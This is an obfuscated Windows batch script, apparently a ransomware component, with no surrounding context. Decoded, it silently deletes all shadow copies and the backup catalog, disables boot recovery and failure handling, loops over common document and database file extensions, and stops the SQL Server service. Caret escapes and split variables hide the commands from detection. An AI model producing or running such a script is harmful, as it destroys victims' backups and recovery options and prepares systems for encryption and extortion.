@echo off
set "v1=vss" & set "v2=adm" & set "v3=in"
set "w1=w" & set "w2=bad" & set "w3=min"
set b=b^c^d^e^d^i^t
set "dq=de"
set "dq=%dq%lete"
%v1%%v2%%v3% %dq% sh^ado^ws /a^ll /q^uiet
w"m"ic sh^adowc^opy %dq% /nointeractive
%w1%%w2%%w3% %dq% c^atalog -q^uiet
%b% /s^et {default} rec^overyenabled N^o
%b% /s^et {default} b^ootstatuspolicy ig^noreallfailures
for %%e in (doc docx xls xlsx pdf jpg sql bak) do a^ssoc .%%e >nul 2>&1
n^et st^op MSSQLSERVER /y >nul 2>&1
